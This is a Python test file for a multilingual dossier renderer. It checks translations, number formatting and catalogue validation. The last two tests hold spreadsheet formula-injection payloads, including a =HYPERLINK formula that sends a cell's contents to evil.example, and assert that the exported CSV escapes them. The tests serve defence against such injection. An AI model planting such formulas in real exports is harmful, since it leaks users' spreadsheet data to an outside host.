"""The document of a dossier in each of its languages: nothing is left in English, no number odd."""

from __future__ import annotations

import csv
import importlib.util
import re
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import ModuleType

import pytest

from cautery.messages import in_language, languages, say, term, text_of
from cautery.model import ErrorRate, ExhibitId
from cautery.pages.case_report.view import SealedLine, StreamView
from cautery.pages.dossier.exhibits import exhibit_lines, exhibit_list
from cautery.pages.dossier.render import document_texts, method
from cautery.pages.dossier.view import rate_views, time_view
from cautery.pages.dossier.words import rate_key, rate_name, style, written

ROOT = Path(__file__).parents[2]
FOREIGN = ("es", "fr", "it")
NOON = datetime(2026, 5, 1, 12, tzinfo=UTC)
THE_SAME = frozenset(
    ("LAB: %(sentence)s", "%(sentences)s", "%(sense)s: %(why)s", "Dossier", "Page", "panel", "logo",
     "verdict", "page", "segment", "playlist", "video", "mandate", "portal", "icon", "Host",
     "file", "contact", "correction", "%(error)s: %(detail)s")
)  # fmt: skip
"""What may be written alike in two languages."""


@pytest.fixture(scope="module")
def tool() -> ModuleType:
    spec = importlib.util.spec_from_file_location("catalogues", ROOT / "tools" / "messages.py")
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def test_the_languages_are_those_of_the_first_courts() -> None:
    assert languages() == ("en", *FOREIGN)


@pytest.mark.parametrize("language", FOREIGN)
def test_each_text_of_a_dossier_is_translated(tool: ModuleType, language: str) -> None:
    texts = [text for text in tool.dossier_texts() if isinstance(text, str)]
    assert len(texts) > 150
    with in_language(language):
        alike = {text for text in texts if text_of(text) == text}
    assert alike <= THE_SAME


@pytest.mark.parametrize("language", FOREIGN)
def test_a_translation_that_lacks_a_text_or_changes_a_place_is_refused(
    tool: ModuleType, language: str, tmp_path: Path
) -> None:
    whole = tool.ROOT / "messages" / "locale" / language / "LC_MESSAGES" / "cautery.po"
    own = tmp_path / language / "LC_MESSAGES" / "cautery.po"
    own.parent.mkdir(parents=True)
    text = whole.read_text("utf-8")
    own.write_text(text, "utf-8")
    assert tool.compiled(own) == whole.with_suffix(".mo").read_bytes()
    own.write_text(re.sub(r'msgid "Support"\nmsgstr ".*"', 'msgid "Support"\nmsgstr ""', text))
    with pytest.raises(SystemExit, match="lacks 'Support'"):
        tool.compiled(own)
    own.write_text(text.replace('msgstr "%(time)s', 'msgstr "%(hour)s'))
    with pytest.raises(SystemExit, match="other places"):
        tool.compiled(own)


def test_the_words_are_those_of_the_language() -> None:
    with in_language("fr"):
        assert document_texts()["ratio"] == "Rapport de vraisemblance"
        assert say(term("verbal", "very strong support")) == "soutien très fort"
        assert method(computed_again=True)[3].endswith("sans Cautery.")
    with in_language("it"):
        assert document_texts()["title"] == "Dossier"
        assert say(term("verbal", "weak support")) == "supporto debole"
    with in_language("es"):
        assert document_texts()["exhibits"] == "Piezas"


def test_numbers_have_the_marks_of_the_language() -> None:
    assert written("12,345.6") == "12,345.6"
    with in_language("fr"):
        assert style(12345.6) == "12\u202f346"
    with in_language("es"):
        assert written("0.05") == "0,05"


def test_a_rate_keeps_its_words_when_its_numbers_change() -> None:
    with in_language("it"):
        first, second = (
            rate_name(f"sound missed, one {n}-s probe, clean").replace(str(n), "N") for n in (5, 12)
        )
        assert first == second
        assert first.startswith("suono non riconosciuto")
        [rate] = rate_views(
            [ErrorRate(what="50 % (x) %(y)s of 3", errors=0, trials=4000, source="s")]
        )
    assert rate.what == "50 % (x) %(y)s of 3"
    assert rate.counted.startswith("0 su 4.000; al massimo 0,075 %")
    assert rate_key("1 and 2")[1] == {"n1": "1", "n2": "2"}


def test_a_bracket_is_rounded_outwards() -> None:
    late = NOON + timedelta(microseconds=1)
    shown = time_view("probed", late, (late, late))
    assert (shown.not_before, shown.not_after) == ("2026-05-01 12:00:00", "2026-05-01 12:00:01")
    assert time_view("probed", late, (None, None)).not_after == ""


def test_no_address_runs_in_a_spreadsheet_that_parts_at_semicolons() -> None:
    sealed = SealedLine(exhibit=ExhibitId("sha256:" + "0" * 64), what=term("exhibit", "playlist"))
    hostile = StreamView(number=1, url="http://pirate.example/;=1+1;x", sealed=(sealed,))
    _, line = exhibit_list(exhibit_lines([hostile], in_bag=None)).decode().splitlines()
    assert line.startswith("1,http://pirate.example/;'=1+1;x,")


def test_no_kind_that_somebody_appended_runs_in_a_spreadsheet() -> None:
    what = term("exhibit", '=HYPERLINK("http://evil.example/?x="&A1)')
    sealed = SealedLine(exhibit=ExhibitId("sha256:" + "0" * 64), what=what)
    stream = StreamView(number=1, url="http://pirate.example/", sealed=(sealed,))
    _, row = csv.reader(exhibit_list(exhibit_lines([stream], in_bag=None)).decode().splitlines())
    assert row[2].startswith("'=HYPERLINK")
